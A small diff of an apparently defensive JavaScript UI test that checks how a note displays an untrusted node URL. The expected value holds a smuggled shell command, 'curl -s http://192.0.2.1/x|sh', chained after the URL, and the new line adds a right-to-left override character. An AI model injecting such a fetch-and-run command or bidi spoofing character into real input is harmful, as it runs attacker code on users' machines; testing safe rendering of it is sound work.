@@ -157,7 +157,7 @@ describe('commands for a step’s evidence', () => {
     expect(verify).toMatch(/ --node https:\/\/\.\.\.$/);
     const [note] = screen.getAllByRole('note');
     expect(note?.querySelector('bdi')?.textContent).toBe(
-      '“http://10.0.0.7:8545;curl -s http://192.0.2.1/x|sh; #”',
+      '“http://10.0.0.7:8545;curl -s http://192.0.2.1/x|sh;\\u{202e}#”',
     );
   }, 60_000);
 });
